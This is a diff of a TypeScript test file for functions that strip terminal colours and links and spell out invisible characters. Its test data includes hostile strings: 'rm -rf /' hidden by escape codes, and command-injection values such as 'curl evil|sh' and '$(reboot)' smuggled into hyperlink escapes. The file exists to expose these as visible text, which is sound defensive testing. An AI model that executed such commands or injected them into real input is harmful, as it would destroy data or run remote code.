@@ -1,11 +1,12 @@
 import fc from 'fast-check';
-import { describe, expect, it } from 'vitest';
+import { describe, expect, it, test } from 'vitest';
 import { cleanLine, spellCode, spellLine, spellWords } from '../../../src/core/lib/clean-line.ts';
 
 describe('cleanLine', () => {
   it.each([
     ['two\r\nlines', 'two lines'],
-    ['a\u0000b\u001b[31mc\u007f', 'a b [31mc'],
+    ['a\u0000b\u001b[2Kc\u007f', 'a b [2Kc'],
+    ['\u001b[1;31mred\u001b[0m \u001b]8;;https://a.example\u0007link\u001b]8;;\u0007', 'red link'],
     ['safe\u202egpj.exe', 'safe gpj.exe'],
     ['a\u2028b\u2029c\u0085d', 'a b c d'],
     ['half \ud83d pair', 'half pair'],
@@ -41,7 +42,9 @@ describe('spellCode', () => {
     ['ls # \rrm -rf /', 'ls # ⟨U+000D⟩rm -rf /', 1],
     ['a\u000bb\u000cc\u0085d\u2028e\u2029', 'a⟨U+000B⟩b⟨U+000C⟩c⟨U+0085⟩d⟨U+2028⟩e⟨U+2029⟩', 5],
     ['a\0b\u007f\ud83d', 'a⟨U+0000⟩b⟨U+007F⟩⟨U+D83D⟩', 3],
-    ['می\u200cخواهم क्\u200dष', 'می⟨U+200C⟩خواهم क्⟨U+200D⟩ष', 2],
+    ['می\u200c خواهم क्\u200da', 'می⟨U+200C⟩ خواهم क्⟨U+200D⟩a', 2],
+    ['می\u200c\u200cخواهم a\u200cb', 'می⟨U+200C × 2⟩خواهم a⟨U+200C⟩b', 3],
+    ['\u0d28\u0d4d\u200d\u200d', '\u0d28\u0d4d\u200d⟨U+200D⟩', 1],
     ['\u{1f469}\u200d\u200d\u{1f680}', '\u{1f469}⟨U+200D × 2⟩\u{1f680}', 2],
     [`a${'\u200b'.repeat(4_000)}b`, 'a⟨U+200B × 4,000⟩b', 4_000],
     [`e${'\u0301'.repeat(9)}`, `e${'\u0301'.repeat(6)}⟨U+0301 × 3⟩`, 3],
@@ -53,6 +56,7 @@ describe('spellCode', () => {
   it.each([
     'a\tb\n  c',
     'Grüße, 漢字\u3000仮名, שלום, مرحبا, क्ष',
+    'می\u200cخواهم क्\u200dष ශ්\u200dරී \u0d28\u0d4d\u200d, \u09a4\u09cd\u200d',
     `\u{1f469}\u200d\u{1f680} \u2714\ufe0f 1\ufe0f\u20e3 \u{1f3f3}\ufe0f\u200d\u{1f308} \u{1f44d}\u{1f3fd} ${ENGLAND}`,
     '⟨x⟩ U+200B',
   ])('leaves %j as it is', (text) => {
@@ -194,7 +198,11 @@ describe('spellWords', () => {
 
   it.each([
     ['Run `rm\u00a0a` in\u00a0prod', 'Run `rm⟨U+00A0⟩a` in\u00a0prod', 1],
-    ['```\nक\u200dष\n```\nक\u200dष', '```\nक⟨U+200D⟩ष\n```\nक\u200dष', 1],
+    [
+      '```\nक\u200dष\u2714\ufe0e\n```\n\u2714\ufe0e',
+      '```\nक\u200dष\u2714⟨U+FE0E⟩\n```\n\u2714\ufe0e',
+      1,
+    ],
     ['not `closed\u00a0\nor ```a\u2009b', 'not `closed\u00a0\nor ```a⟨U+2009⟩b', 1],
     ['https://a/`b\u2009c` d\u2009e', 'https://a/`b⟨U+2009⟩c` d\u2009e', 1],
     ['`\u200b` \u200b', '`⟨U+200B⟩` ⟨U+200B⟩', 2],
@@ -218,7 +226,59 @@ describe('spellWords', () => {
 });
 
 it('a line has single spaces in place of its blanks, and the rest is spelled out', () => {
-  expect(spellLine(' Deploy\r\n4.2\u2028 to\u00a0\tprod\u200b\ufeff\u001b[31m ').text).toBe(
-    'Deploy 4.2 to prod⟨U+200B⟩⟨U+FEFF⟩⟨U+001B⟩[31m',
+  expect(spellLine(' Deploy\r\n4.2\u2028 to\u00a0\tprod\u200b\ufeff\u0007 ').text).toBe(
+    'Deploy 4.2 to prod⟨U+200B⟩⟨U+FEFF⟩⟨U+0007⟩',
   );
+});
+
+describe('of a terminal', () => {
+  const link = (address: string, text: string, end = '\x1b\\') =>
+    `\x1b]8;;${address}${end}${text}\x1b]8;;${end}`;
+
+  test.each([
+    ['\x1b[32m+\x1b[0m added', '+ added'],
+    ['\x1b[1;38;5;208mnew\x1b[m \x1b[38:2::255:0:0mred\x1b[39;49m', 'new red'],
+    ['\x1b[8mrm -rf /\x1b[28m', 'rm -rf /'],
+    [link('https://a.example/x?a=1&b=2#c', 'run 4711'), 'run 4711'],
+    [link('https://a.example', 'run', '\x07'), 'run'],
+    [link('file://host/etc/motd', 'motd'), 'motd'],
+    ['\x1b]8;id=1;https://a.example\x1b\\run\x1b]8;;\x1b\\', 'run'],
+    [link('https://a.example', '\x1b[4mrun\x1b[24m'), 'run'],
+  ])('colours and links go, and their text stays: %j', (text, read) => {
+    const spelled = { text: read, invisible: 0, unspelled: 0, isUnstyled: true };
+    for (const spell of [spellCode, spellWords, spellLine]) expect(spell(text)).toEqual(spelled);
+  });
+
+  test.each([
+    ['\x1b[2K\rdone', '�[2K⟨U+000D⟩done', 2],
+    ['\x1b[3Aup', '�[3Aup', 1],
+    ['\x1b]0;title\x07', '�]0;title⟨U+0007⟩', 2],
+    ['\x1b]52;c;ZWNobw==\x07', '�]52;c;ZWNobw==⟨U+0007⟩', 2],
+    ['\x1b\x1b(B', '��(B', 2],
+    ['\x1b[31', '�[31', 1],
+    ['\u009b31mred', '⟨U+009B⟩31mred', 1],
+    ['\x1b]8;;https://a.example', '�]8;;https://a.example', 1],
+  ])('everything else is shown: %j', (text, read, invisible) => {
+    expect(spellCode(text)).toMatchObject({ text: read, invisible });
+    expect(spellCode(text).isUnstyled).toBeUndefined();
+  });
+
+  test.each([
+    'x;curl evil|sh #',
+    'id=1;https://a.example&reboot&',
+    'id=1;https://a.example;reboot;',
+    ';https://a.example;reboot;',
+    ';$(reboot)',
+    ';https://a.example`reboot`',
+    ';https://a.example\n reboot',
+  ])('what a shell would run is no link: %j', (hidden) => {
+    const text = `echo \x1b]8;${hidden}\x07`;
+    expect(spellCode(text).text).toBe(`echo �]8;${hidden}⟨U+0007⟩`);
+  });
+
+  test('what stands together without its colours is read as one', () => {
+    expect(spellCode('\x1b[1m⟨\x1b[0mU+200B⟩').text).toBe('⟨U+27E8⟩U+200B⟩');
+    expect(spellCode('a\r\x1b[0m\nb').text).toBe('a\nb');
+    expect(spellLine('a \x1b[0m b').text).toBe('a b');
+  });
 });
